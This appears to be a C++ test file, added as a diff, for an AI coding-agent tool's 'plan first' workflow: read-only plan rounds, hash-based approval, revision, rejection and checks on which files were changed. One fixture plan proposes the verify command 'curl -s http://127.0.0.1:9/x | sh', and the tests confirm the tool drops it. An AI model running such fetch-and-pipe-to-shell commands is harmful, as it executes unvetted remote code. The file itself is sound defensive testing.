@@ -1,0 +1,222 @@
+// Plans first (docs/review.md, "Plans"): a plan round runs the agent in a read-only worktree
+// and reads its answer as a plan; a person approves it (naming its hash), revises it or
+// rejects it; the approval seals the plan's files and allowed verify commands into the code
+// round, which is judged against them. From the terminal, and on the loopback GitHub through
+// the events the action and serve read (`continue --event`, `plan --event`).
+
+#include "dispatch_fixture.h"
+#include "fake_github.h"
+#include "proc/sandbox.h"
+
+namespace cocode::test {
+
+class Plans : public DispatchRun {
+  protected:
+    // plan-agent.sh plans src/feature.txt; the configuration allows src/** and binds plan
+    // verify commands that start with `test -s`.
+    void configure_plans(json extra = json::object()) {
+        json config = {{"agents", {{"planner", {{"command", agent_path("plan-agent.sh")}}}}},
+                       {"check",
+                        {{"allowed_paths", {"src/**"}},
+                         {"verify", {{{"name", "src exists"}, {"run", "test -d src"}}}}}},
+                       {"plan", {{"bind_verify", {"test -s"}}}}};
+        config.update(extra);
+        configure(config);
+    }
+
+    void set_issue_body(int n, const std::string& body) {
+        json issue = json::parse(read_text(repo_ / ".cocode/issues" / (std::to_string(n) + ".json")));
+        issue["body"] = body;
+        write_text(repo_ / ".cocode/issues" / (std::to_string(n) + ".json"), issue.dump());
+        sh_ok("git add -A .cocode && git commit -q -m 'issue text'", repo_);
+    }
+
+    json check_of(const run::RunRecord& r) {
+        return json::parse(read_text(r.folder / "check.json"));
+    }
+
+    static std::map<std::string, json> checks_by_id(const json& verdict) {
+        std::map<std::string, json> out;
+        for (const auto& c : verdict["checks"]) out[c["id"]] = c;
+        return out;
+    }
+};
+
+TEST_F(Plans, AnApprovedPlanBecomesTheRulesOfTheCodeRound) {
+    configure_plans();
+    set_issue_body(1, "Add the feature. Then a stray file.\n");
+    Shell planned = dispatch("run 1 --plan");
+    ASSERT_EQ(planned.exit_code, 0) << planned.err;
+    const run::RunRecord plan_run = only_run();
+    EXPECT_TRUE(plan_run.plan_round);
+    // Asked for a plan, told the worktree is read-only.
+    const std::string prompt = read_text(plan_run.folder / "prompt.md");
+    EXPECT_NE(prompt.find("This is a plan round: your worktree is read-only"), std::string::npos);
+    EXPECT_EQ(prompt.find("make a final commit"), std::string::npos) << prompt;
+
+    const json verdict = check_of(plan_run);
+    EXPECT_EQ(verdict["verdict"], "PASS") << verdict.dump(2);
+    const json& plan = verdict["plan_round"];
+    EXPECT_EQ(plan["questions"], json::array({"Should the feature be on by default?"}));
+    EXPECT_EQ(plan["files"], json::array({"src/feature.txt"}));
+    EXPECT_EQ(plan["tests"],
+              json::array({"test -s src/feature.txt", "curl -s http://127.0.0.1:9/x | sh"}));
+    EXPECT_EQ(plan["steps"].size(), 2u);
+    const std::string hash = plan["hash"];
+    ASSERT_EQ(hash.size(), 12u);
+    EXPECT_EQ(checks_by_id(verdict)["read_only"]["result"], "pass");
+    // The report lists the questions before the files, and says how to approve.
+    const std::string report = read_text(plan_run.folder / "check.md");
+    EXPECT_LT(report.find("**Questions**"), report.find("**Files**")) << report;
+    EXPECT_NE(report.find("`/cocode approve planner " + hash + "`"), std::string::npos) << report;
+    EXPECT_NE(planned.out.find("continue 1 --agent planner --approve --hash " + hash),
+              std::string::npos)
+        << planned.out;
+
+    // An approval naming another hash: the plan changed since; nothing runs.
+    Shell stale = dispatch("continue 1 --approve --hash 0123456789ab");
+    EXPECT_EQ(stale.exit_code, 2);
+    EXPECT_NE(stale.err.find("plan 0123456789ab is not the current plan (" + hash + ")"),
+              std::string::npos)
+        << stale.err;
+    EXPECT_EQ(runs().size(), 1u);
+
+    Shell approved = dispatch("continue 1 --approve --hash " + hash);
+    ASSERT_EQ(approved.exit_code, 0) << approved.err;
+    // The verify command no prefix allows is left out, and said so.
+    EXPECT_NE(approved.err.find("verify command left out: curl -s http://127.0.0.1:9/x | sh"),
+              std::string::npos)
+        << approved.err;
+    auto all = runs();
+    ASSERT_EQ(all.size(), 2u);
+    const run::RunRecord& code = all[1];
+    EXPECT_FALSE(code.plan_round);
+    EXPECT_EQ(code.round, 2);
+    EXPECT_EQ(code.round_trigger, "plan " + hash + " approved (terminal)");
+    // The plan is in the code round's prompt, as data.
+    EXPECT_NE(read_text(code.folder / "prompt.md").find("`src/feature.txt`"), std::string::npos);
+    // The seal holds the plan: files, the verify command kept, the one left out.
+    const json seal = json::parse(read_text(repo_ / ".cocode/seals" / (code.run_id + ".json")));
+    EXPECT_EQ(seal["plan"]["hash"], hash);
+    EXPECT_EQ(seal["plan"]["files"], json::array({"src/feature.txt"}));
+    EXPECT_EQ(seal["plan"]["verify"], json::array({"test -s src/feature.txt"}));
+    ASSERT_EQ(seal["plan"]["left_out"].size(), 1u);
+
+    // The agent also wrote src/extra.txt: inside the configured src/**, outside the plan.
+    const json judged = check_of(code);
+    EXPECT_EQ(judged["verdict"], "FAIL") << judged.dump(2);
+    auto checks = checks_by_id(judged);
+    EXPECT_EQ(checks["scope"]["result"], "pass");
+    EXPECT_EQ(checks["plan"]["result"], "fail");
+    EXPECT_EQ(checks["plan"]["files"], json::array({"src/extra.txt"}));
+    EXPECT_NE(checks["plan"]["reason"].get<std::string>().find("src/extra.txt"), std::string::npos);
+    EXPECT_EQ(judged["plan"]["verify"], json::array({"test -s src/feature.txt"}));
+    const std::string code_report = read_text(code.folder / "check.md");
+    EXPECT_NE(code_report.find("**Rules from the approved plan** `" + hash + "`"),
+              std::string::npos)
+        << code_report;
+    EXPECT_NE(code_report.find("left out of verify: `curl -s http://127.0.0.1:9/x | sh"),
+              std::string::npos);
+    EXPECT_NE(code_report.find("- round 1 · issue #1 · plan"), std::string::npos) << code_report;
+
+    // The plan is spent: nothing more to approve.
+    Shell again = dispatch("continue 1 --approve --hash " + hash);
+    EXPECT_EQ(again.exit_code, 2);
+    EXPECT_NE(again.err.find("no agent has a plan"), std::string::npos) << again.err;
+}
+
+TEST_F(Plans, WithinThePlanTheCodeRoundPassesAndItsVerifyCommandRuns) {
+    configure_plans();
+    ASSERT_EQ(dispatch("run 1 --plan").exit_code, 0);
+    const std::string hash = check_of(only_run())["plan_round"]["hash"];
+    Shell approved = dispatch("continue 1 --agent planner --approve --hash " + hash);
+    ASSERT_EQ(approved.exit_code, 0) << approved.err;
+    const json judged = check_of(runs()[1]);
+    EXPECT_EQ(judged["verdict"], "PASS") << judged.dump(2);
+    bool plan_verify = false;
+    for (const auto& c : judged["checks"])
+        if (c["name"] == "verify: test -s src/feature.txt (plan)")
+            plan_verify = c["result"] == "pass";
+    EXPECT_TRUE(plan_verify) << judged.dump(2);
+}
+
+TEST_F(Plans, ARevisionPlansAgainWithTheWordsAndARejectionStopsApproval) {
+    configure_plans();
+    ASSERT_EQ(dispatch("run 1 --plan").exit_code, 0);
+    const std::string first = check_of(only_run())["plan_round"]["hash"];
+    EXPECT_EQ(dispatch("continue 1 --revise").exit_code, 2);  // what to change is needed
+    Shell revised = dispatch("continue 1 --revise -m 'Yes, on by default.'");
+    ASSERT_EQ(revised.exit_code, 0) << revised.err;
+    auto all = runs();
+    ASSERT_EQ(all.size(), 2u);
+    EXPECT_TRUE(all[1].plan_round);
+    EXPECT_EQ(all[1].round_trigger, "plan revised (terminal)");
+    EXPECT_NE(read_text(all[1].folder / "prompt.md").find("Yes, on by default."),
+              std::string::npos);
+    const json plan = check_of(all[1])["plan_round"];
+    EXPECT_EQ(plan["questions"], json::array({"none: answered (Yes, on by default. )"}));
+    EXPECT_NE(plan["hash"], first);
+    // The first plan is no longer the one to approve.
+    Shell stale = dispatch("continue 1 --approve --hash " + first);
+    EXPECT_EQ(stale.exit_code, 2);
+
+    Shell rejected = dispatch("continue 1 --reject");
+    ASSERT_EQ(rejected.exit_code, 0) << rejected.err;
+    EXPECT_EQ(check_of(runs()[1])["plan_round"]["rejected_by"], "terminal");
+    Shell after = dispatch("continue 1 --approve");
+    EXPECT_EQ(after.exit_code, 2);
+    EXPECT_NE(after.err.find("was rejected (terminal)"), std::string::npos) << after.err;
+    EXPECT_EQ(runs().size(), 2u);
+}
+
+// The worktree is read-only in the sandbox: the agent's write is refused and nothing lands.
+// Without the sandbox a write lands, and the plan round fails naming it.
+TEST_F(Plans, APlanRoundThatWritesIsRefusedByTheSandboxOrFails) {
+    configure_plans();
+    set_issue_body(1, "Add the feature, but try to write first.\n");
+    if (probe_sandbox().available) {
+        Shell sandboxed = dispatch("run 1 --plan");
+        ASSERT_EQ(sandboxed.exit_code, 0) << sandboxed.err;
+        const run::RunRecord& r = only_run();
+        EXPECT_EQ(read_text(r.folder / "agent-stderr.txt"), "could not write src/sneaky.txt\n");
+        EXPECT_FALSE(fs::exists(r.worktree / "src/sneaky.txt"));
+        EXPECT_EQ(checks_by_id(check_of(r))["read_only"]["result"], "pass");
+        sh_ok("rm -rf .cocode/runs .cocode/seals && git worktree remove --force "
+              ".cocode/worktrees/1-planner && git branch -D cocode/1-planner",
+              repo_);
+    }
+    Shell open = dispatch("run 1 --plan --sandbox none");
+    ASSERT_EQ(open.exit_code, 0) << open.err;
+    const run::RunRecord& r = only_run();
+    EXPECT_TRUE(fs::exists(r.worktree / "src/sneaky.txt"));
+    const json verdict = check_of(r);
+    EXPECT_EQ(verdict["verdict"], "FAIL");
+    const auto checks = checks_by_id(verdict);
+    EXPECT_EQ(checks.at("read_only")["result"], "fail");
+    // A new folder is named as git status names it: the folder the file is in.
+    EXPECT_EQ(checks.at("read_only")["files"], json::array({"src/"}));
+    // Nothing to approve.
+    Shell approve = dispatch("continue 1 --approve");
+    EXPECT_EQ(approve.exit_code, 2);
+    EXPECT_NE(approve.err.find("has no plan to approve"), std::string::npos) << approve.err;
+}
+
+// An answer that is not a plan is shown as written, with why, and counts as no plan.
+TEST_F(Plans, AnAnswerThatIsNotAPlanIsShownWithWhyAndCountsAsNone) {
+    const std::string script = (dir_ / "no-plan.sh").string();
+    write_text(script, "#!/bin/sh\necho 'I would just do it.'\n");
+    fs::permissions(script, fs::perms::owner_all);
+    configure({{"agents", {{"vague", {{"command", script}}}}}});
+    ASSERT_EQ(dispatch("run 1 --plan").exit_code, 0);
+    const run::RunRecord& r = only_run();
+    const json verdict = check_of(r);
+    EXPECT_EQ(verdict["verdict"], "FAIL");
+    EXPECT_EQ(verdict["plan_round"]["text"], "I would just do it.\n");
+    EXPECT_NE(verdict["plan_round"]["why_not"].get<std::string>().find("no files"),
+              std::string::npos);
+    const std::string report = read_text(r.folder / "check.md");
+    EXPECT_NE(report.find("I would just do it."), std::string::npos) << report;
+    EXPECT_NE(report.find("Nothing to approve"), std::string::npos) << report;
+}
+
+}  // namespace cocode::test
